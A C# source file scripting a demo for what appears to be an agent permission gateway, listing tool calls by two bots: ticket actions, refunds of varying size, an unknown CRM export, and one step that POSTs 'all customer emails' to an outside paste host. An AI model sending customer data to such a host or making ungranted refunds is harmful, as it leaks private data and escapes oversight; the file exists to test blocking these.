namespace AgentBus.DemoAgent;

/// <summary>One step of the demo: who proposes what, and why it is in the script.</summary>
public sealed record DemoStep(string Agent, string Tool, string Description, object Arguments);

public static class DemoScenario
{
    public static IReadOnlyList<DemoStep> Steps(string sandbox) =>
    [
        new("support-bot", "ticketing", "open a ticket",
            new { method = "POST", url = $"{sandbox}/ticketing/tickets", body = new { title = "Customer cannot log in", priority = "high" } }),
        new("support-bot", "payments", "refund an order",
            new { method = "POST", url = $"{sandbox}/payments/refunds", body = new { orderId = "ORD-1001", amountUsd = 25.00 } }),
        new("support-bot", "payments", "refund a large order (needs a person)",
            new { method = "POST", url = $"{sandbox}/payments/refunds", body = new { orderId = "ORD-1003", amountUsd = 250.00 } }),
        new("intern-bot", "ticketing", "comment on a ticket",
            new { method = "POST", url = $"{sandbox}/ticketing/tickets/TCK-1/comments", body = new { text = "Asked the customer for a screenshot." } }),
        new("intern-bot", "payments", "refund an order (no grant)",
            new { method = "POST", url = $"{sandbox}/payments/refunds", body = new { orderId = "ORD-1002", amountUsd = 900.00 } }),
        new("support-bot", "crm", "export contacts (unknown tool)",
            new { method = "GET", url = $"{sandbox}/crm/contacts" }),
        new("support-bot", "ticketing", "post tickets to an outside host",
            new { method = "POST", url = "https://paste.example.com/upload", body = new { title = "all customer emails" } }),
        new("support-bot", "payments", "look up an order",
            new { method = "GET", url = $"{sandbox}/payments/orders/ORD-1001" }),
    ];
}
